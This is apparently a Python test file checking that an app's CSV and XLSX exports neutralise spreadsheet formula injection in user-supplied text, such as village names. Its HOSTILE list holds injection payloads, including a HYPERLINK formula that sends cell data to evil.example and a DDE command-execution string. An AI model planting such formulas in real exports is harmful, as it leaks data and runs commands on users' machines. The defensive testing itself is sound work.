"""Every export goes through server.spreadsheets: text from users never becomes a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from server.spreadsheets import INTEGER, PERCENT, Column, Table, neutralise, to_csv, to_xlsx
from tests.activity_factories import activity_item, count_coverage
from tests.factories import COMMUNE_A, LEADER_A, MEMBER_A, build_world, make_team, make_unit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_beginning_with_a_formula_trigger_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Thôn Lô Lô Chải", "Tổ 5 - Phường Ba Đình", "", 12, -3, 0.85, None])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value  # numbers stay numbers, even negative ones


def _table(names):
    return Table(
        "Báo cáo",
        [Column("Đơn vị"), Column("Số", INTEGER), Column("Tỷ lệ", PERCENT)],
        [[name, -1, 0.5] for name in names],
        [("Kỳ báo cáo", "=1+1")],
    )


def test_csv_cells_cannot_start_a_formula():
    rows = list(csv.reader(io.StringIO(to_csv(_table(HOSTILE)).lstrip("\ufeff"))))
    assert rows[1] == ["Kỳ báo cáo", "'=1+1"]
    names = [row[0] for row in rows[4:]]
    assert names == ["'" + text for text in HOSTILE]
    assert all(row[1] == "-1" for row in rows[4:])  # a number from us is not text from a user


def test_xlsx_text_is_stored_as_string_cells_never_formulas():
    sheet = load_workbook(io.BytesIO(to_xlsx(_table(HOSTILE)))).active
    cells = [sheet.cell(row=row, column=1) for row in range(5, 5 + len(HOSTILE))]
    assert [cell.value for cell in cells] == [t.replace("\r", "\n") for t in HOSTILE]  # as typed (XML keeps no CR)
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet.cell(row=2, column=2).data_type == "s"
    assert sheet.cell(row=5, column=3).number_format == "0.0%" and sheet.cell(row=5, column=3).value == 0.5
    assert sheet.freeze_panes == "A5"


def test_a_village_named_like_a_formula_exports_as_text(as_phone, app_context):
    world = build_world()
    village = make_unit(COMMUNE_A, '=HYPERLINK("http://evil.example","Thôn Mới")')
    make_team(village.code, "Tổ CNS mới", (MEMBER_A,))
    as_phone(MEMBER_A).post("/activities/batch", json={"items": [activity_item(village.code)]})
    count_coverage()
    leader = as_phone(LEADER_A)
    text = leader.get(f"/coverage/{COMMUNE_A}/children?indicator=people_helped&format=csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert [village.code, "'" + village.name] == next(row[:2] for row in rows if row and row[0] == village.code)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    xlsx = leader.get(f"/coverage/{COMMUNE_A}/children?indicator=people_helped&format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    names = [row[1] for row in sheet.iter_rows(min_row=6) if row[0].value == village.code]
    assert names[0].value == village.name and names[0].data_type == "s"
    assert world.village_a.name in [row[1].value for row in sheet.iter_rows(min_row=6)]


def test_no_export_writes_spreadsheets_by_itself():
    """Later exports must go through server.spreadsheets too: nothing else may write CSV or XLSX."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    writers = [
        path.relative_to(root).as_posix()
        for folder in ("server", "mobile_api")
        for path in (root / folder).rglob("*.py")
        if any(marker in path.read_text(encoding="utf-8") for marker in ("csv.writer", "csv.DictWriter", "openpyxl"))
    ]
    assert writers == ["server/spreadsheets.py"]
